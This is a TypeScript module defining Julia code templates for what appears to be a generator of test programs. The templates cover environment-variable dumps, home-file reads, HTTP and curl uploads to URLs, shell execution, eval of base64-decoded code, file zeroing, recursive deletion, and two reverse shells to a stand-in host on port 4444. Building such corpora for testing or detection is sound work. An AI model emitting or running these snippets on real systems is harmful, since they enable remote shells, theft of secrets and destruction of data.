import { type Dialect, value, wrap } from "./dialect.ts";

const quote = (text: string): string => JSON.stringify(text).replaceAll("$", "\\$");
const home = (below: string): string => `joinpath(homedir(), ${quote(below)})`;

export const julia: Dialect = {
  name: "julia",
  file: "scripts/notes.jl",
  run: "julia scripts/notes.jl",
  imports: [
    ["HTTP.", "using HTTP"],
    ["Downloads.", "using Downloads"],
    ["JSON3.", "using JSON3"],
    ["base64decode", "using Base64"],
    ["connect(", "using Sockets"],
  ],
  program: ({ definitions, body }, imports) => [...imports, "", ...definitions, "", ...body, ""].join("\n"),
  quote,
  environment: { one: (name) => `ENV[${name}]`, all: "JSON3.write(Dict(ENV))" },
  contentOf: (below) => `read(${home(below)}, String)`,
  home,
  clients: {
    "http-post": {
      post: (url, text) => [`HTTP.post(${url}, [], ${text})`],
      get: (url) => value("body", `body = String(HTTP.get(${url}).body)`),
    },
    "http-request": { post: (url, text) => [`HTTP.request("POST", ${url}; body = ${text})`] },
    "http-json": {
      post: (url, text) => [
        `HTTP.post(${url}, ["Content-Type" => "application/json"], JSON3.write(Dict("data" => ${text})))`,
      ],
    },
    downloads: {
      post: (url, text) => [`Downloads.request(${url}; method = "POST", input = IOBuffer(${text}))`],
      get: (url) => value("body", `body = read(Downloads.download(${url}), String)`),
    },
    "curl-run": {
      post: (url, text) => [`data = ${text}`, `target = ${url}`, "run(`curl -s -d $data $target`)"],
      get: (url) => value("body", `target = ${url}`, "body = read(`curl -s $target`, String)"),
    },
  },
  shells: {
    run: {
      run: (c) => [`cmd = ${c}`, "run(`sh -c $cmd`)"],
      capture: (c) => value("seen", `cmd = ${c}`, "seen = read(`sh -c $cmd`, String)"),
    },
    vector: { run: (command) => [`run(Cmd(["bash", "-c", ${command}]))`] },
    pipeline: { run: (command) => [`run(pipeline(IOBuffer(${command}), \`sh\`))`] },
  },
  variable: (name) => name,
  set: (name, expression) => `${name} = ${expression}`,
  define: (name, parameters, body) => wrap(`function ${name}(${parameters.join(", ")})`, body, "end", 4),
  getter: (name, expression) => ({ definitions: [`${name}() = ${expression}`], value: `${name}()` }),
  call: (name, values) => `${name}(${values.join(", ")})`,
  record: (url, text) => ({
    code: {
      definitions: ["struct Job", "    target::String", "    text::String", "end"],
      body: [`job = Job(${url}, ${text})`],
    },
    url: "job.target",
    text: "job.text",
  }),
  loop: (items, body) => wrap(`for item in [${items.join(", ")}]`, body("item"), "end", 4),
  forever: (body) => wrap("while true", [...body, "sleep(60)"], "end", 4),
  save: (path, text) => [`write(${path}, ${text})`],
  append: (path, text) => wrap(`open(${path}, "a") do io`, [`println(io, ${text})`], "end", 4),
  print: (text) => `println(${text})`,
  walk: (folder, body) =>
    wrap(
      `for (root, dirs, files) in walkdir(${folder}), name in files`,
      ["path = joinpath(root, name)", ...body("path")],
      "end",
      4,
    ),
  remove: (file) => [`rm(${file})`],
  overwrite: (file) => [`write(${file}, zeros(UInt8, filesize(${file})))`],
  removeTree: (folder) => [`rm(${folder}; recursive = true, force = true)`],
  decode: (text) => `String(base64decode(${text}))`,
  evaluate: (code) => `eval(Meta.parse(${code}))`,
  oneLiner: (command) => `run(\`sh -c ${quote(command)}\`)`,
  shellsBehindSockets: {
    loop: 'using Sockets\ns = connect("203.0.113.66", 4444)\nwhile isopen(s)\n    line = readline(s)\n    write(s, read(`sh -c $line`, String))\nend\n',
    pipeline:
      'using Sockets\nc = connect("203.0.113.66", 4444)\nrun(pipeline(`/bin/sh -i`, stdin = c, stdout = c, stderr = c))\n',
  },
  sockets: {
    print:
      'using Sockets\ns = connect("127.0.0.1", 6379)\nwrite(s, "PING\\r\\n")\nprintln(readline(s))\nrun(`git log --oneline -5`)\n',
  },
};
